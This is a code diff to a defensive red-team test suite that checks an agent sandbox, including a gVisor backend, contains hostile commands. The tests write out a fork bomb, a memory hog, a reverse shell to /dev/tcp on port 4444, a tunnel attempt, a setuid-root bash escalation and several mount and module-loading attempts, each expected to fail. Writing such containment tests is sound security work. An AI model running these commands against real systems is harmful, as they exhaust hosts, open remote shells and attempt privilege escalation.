@@ -15,7 +15,7 @@ from concurrent.futures import ThreadPoolExecutor
 
 import gymnasium as gym
 import pytest
-from redteam import answers_quickly, host_processes
+from redteam import GVISOR, answers_quickly, held_or_lost, host_processes
 
 import rock_gym  # noqa: F401 - registers the rock/* ids
 from rock_gym.sandbox import Sandbox, SandboxConfig
@@ -52,6 +52,10 @@ PIDS = "read -r n < /sys/fs/cgroup/pids/pids.current; read -r m < /sys/fs/cgroup
 
 def test_fork_bomb_is_held_by_the_pids_limit(backend, sibling):
     with Sandbox(config(backend, pids_limit=64)) as sb:
+        if GVISOR:  # each gVisor process has a host stub in the limited cgroup: the bomb may take the sentry down
+            held_or_lost(lambda: sb.run("bomb() { bomb | bomb & }; bomb", timeout=5), sb)
+            answers_quickly(sibling)
+            return
         sb.run("bomb() { bomb | bomb & }; bomb", timeout=5)  # returns at once; the bomb goes on in the background
         # While it rages, the shell answers (builtins: forks fail at the limit) and the count never passes the limit.
         for _ in range(3):
@@ -64,6 +68,12 @@ def test_fork_bomb_is_held_by_the_pids_limit(backend, sibling):
 def test_memory_bomb_is_killed_inside(backend, sibling):
     with Sandbox(config(backend, memory="128m")) as sb:
         hog = 'python3 -c "b = []\nwhile True: b.append(bytearray(16 << 20))"'
+        if GVISOR:  # gVisor's kernel refuses the allocation (MemoryError), or the sentry dies at the cgroup's limit
+            outcome: list[CommandResult] = []
+            if held_or_lost(lambda: outcome.append(during(sb, hog, 20, lambda: answers_quickly(sibling), 0.5)), sb):
+                assert outcome[0].exit_code != 0 and not outcome[0].timed_out, outcome
+            answers_quickly(sibling)
+            return
         result = during(sb, hog, 20, lambda: answers_quickly(sibling), wait=0.5)
         assert result.exit_code == 137 and not result.timed_out  # SIGKILL from the cgroup's OOM killer
         still_works(sb)
@@ -120,11 +130,16 @@ def test_background_processes_do_not_survive_reset_or_close(backend, sibling):
             env.reset(seed=0)
             *_, info = env.step(get_format("hermes").render([ToolCall("bash", {"command": c}) for c in survivors]))
             assert all(r["exit_code"] == 0 for r in info["tool_results"]), info["tool_results"]
+            sandbox = env.unwrapped.episode.sandbox
+            if GVISOR:  # they live in gVisor's kernel: seen from inside; on the host, the sandbox's runsc processes
+                count = f"ps -eo args= | grep -c '^{marker}'"
+                assert wait_until(lambda: sandbox.run(count).output.strip() == "3", 5), sandbox.run("ps -eo args=")
+            seen = sandbox.container_id if GVISOR else marker
             # The check can see them: sandbox processes are host processes in another PID namespace.
-            assert wait_until(lambda: len(host_processes(marker)) == 3, 5), host_processes(marker)
+            assert wait_until(lambda: len(host_processes(seen)) >= (1 if GVISOR else 3), 5), host_processes(seen)
             answers_quickly(sibling)
             env.reset(seed=0) if ending == "reset" else env.close()
-            assert wait_until(lambda: not host_processes(marker), 10), f"after {ending}: {host_processes(marker)}"
+            assert wait_until(lambda: not host_processes(seen), 10), f"after {ending}: {host_processes(seen)}"
     finally:
         env.close()
 
@@ -145,7 +160,8 @@ def test_egress_has_no_route(backend, sibling, address):
     with Sandbox(config(backend)) as sb:
         before = sb.run("cat /proc/net/dev").output
         tcp, udp, seconds = sb.run(probe).output.split()
-        assert (tcp, udp) == ("ENETUNREACH", "ENETUNREACH") and float(seconds) < 0.5
+        refused = "EHOSTUNREACH" if GVISOR else "ENETUNREACH"  # gVisor's netstack has no route either, says it so
+        assert (tcp, udp) == (refused, refused) and float(seconds) < 0.5
         links = [line.split(":")[0].strip() for line in before.splitlines()[2:]]
         assert links == ["lo"], f"an interface to send on exists: {links}"
         answers_quickly(sibling)
@@ -156,9 +172,10 @@ def test_reverse_shell_fails_at_once(backend, sibling):
         started = time.perf_counter()
         result = sb.run("bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", timeout=10)
         assert result.exit_code != 0 and not result.timed_out and time.perf_counter() - started < 2
-        assert "network is unreachable" in result.output.lower()
+        refused = "no route to host" if GVISOR else "network is unreachable"
+        assert refused in result.output.lower()
         tunnel = sb.run("exec 3<>/dev/tcp/203.0.113.7/22 && echo connected", timeout=10)
-        assert "connected" not in tunnel.output and "unreachable" in tunnel.output.lower()
+        assert "connected" not in tunnel.output and refused in tunnel.output.lower()
         answers_quickly(sibling)
         still_works(sb)
 
@@ -178,18 +195,19 @@ def test_no_engine_socket_no_host_paths_own_pid_namespace(backend, sibling):
         pids = sb.run("ls /proc | grep '^[0-9]' | wc -l").output
         assert int(pids) < 12, "only the sandbox's own processes are visible"
         targets = sb.run("awk '{print $5}' /proc/self/mountinfo").output.split()
-        foreign = [t for t in targets if not OWN_MOUNTS.match(t)]
+        foreign = [t for t in targets if not OWN_MOUNTS.match(t) and not (GVISOR and t == "/tmp")]  # gVisor's tmpfs
         assert not foreign, f"host paths mounted into the sandbox: {foreign}"
         assert sb.run("hostname").output.strip() != __import__("socket").gethostname()
         answers_quickly(sibling)
 
 
 PRIVILEGE_ATTEMPTS = {
-    # A setuid-root copy of bash, run by uid 1000: no_new_privs keeps it uid 1000.
+    # A setuid-root copy of bash, run by uid 1000: no_new_privs (prctl 39 reads it) keeps it uid 1000.
     "setuid": (
         'cp /bin/bash /tmp/rootbash && chmod u+s /tmp/rootbash && python3 -c "import os; os.setgid(1000); '
-        "os.setuid(1000); os.execv('/tmp/rootbash', ['b', '-p', '-c', 'id -u; grep NoNewPrivs /proc/self/status'])\"",
-        lambda r: r.output.split()[:3] == ["1000", "NoNewPrivs:", "1"],
+        "os.setuid(1000); os.execv('/tmp/rootbash', ['b', '-p', '-c', 'id -u; python3 -c \\\"import ctypes; "
+        "print(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))\\\"'])\"",
+        lambda r: r.output.split()[:2] == ["1000", "1"],
     ),
     "mount": ("mount -t tmpfs none /mnt", lambda r: r.exit_code != 0),
     "bind-mount": ("mount --bind / /mnt", lambda r: r.exit_code != 0),
@@ -210,7 +228,8 @@ PRIVILEGE_ATTEMPTS = {
     "modprobe": ("modprobe dummy || insmod /tmp/x.ko", lambda r: r.exit_code != 0),
     "proc-modules": ("echo x > /proc/modules", lambda r: r.exit_code != 0),
     "sys-readonly": ("touch /sys/kernel/x; echo 1 > /sys/kernel/mm/ksm/run", lambda r: r.exit_code != 0),
-    "mknod": ("mknod /tmp/vda b 254 0", lambda r: r.exit_code != 0),
+    # No CAP_MKNOD; under gVisor the node is made in gVisor's file system and opens no device.
+    "mknod": ("mknod /tmp/vda b 254 0 && head -c 1 /tmp/vda", lambda r: r.exit_code != 0),
     "raw-socket": (
         'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"',
         lambda r: r.exit_code != 0 and "not permitted" in r.output,
@@ -220,6 +239,8 @@ PRIVILEGE_ATTEMPTS = {
 
 @pytest.mark.parametrize("attempt", sorted(PRIVILEGE_ATTEMPTS))
 def test_privilege_attempts_fail(sandbox, attempt):
+    if GVISOR and attempt == "unshare-user":
+        pytest.skip("gVisor implements user namespaces in its own kernel: a nested one reaches nothing of the host's")
     command, held = PRIVILEGE_ATTEMPTS[attempt]
     result: CommandResult = sandbox.run(command, timeout=20)
     assert held(result), result
@@ -273,4 +294,5 @@ def test_env_keeps_working_or_ends_clearly_after_hostile_turns(backend, sibling)
         env.close()
     # A memory hog and a flood never cost the sandbox; `kill -9 -1` kills the container's keeper (the episode ends at
     # it or the next call), and a fork bomb outlives its call (the sandbox may be lost at it or the next call).
-    assert not {0, 1} & set(endings), [attacks[n] for n in endings]
+    # Under gVisor the hog may take the sentry down with it (the cgroup's limit holds gVisor's whole kernel).
+    assert not ({1} if GVISOR else {0, 1}) & set(endings), [attacks[n] for n in endings]
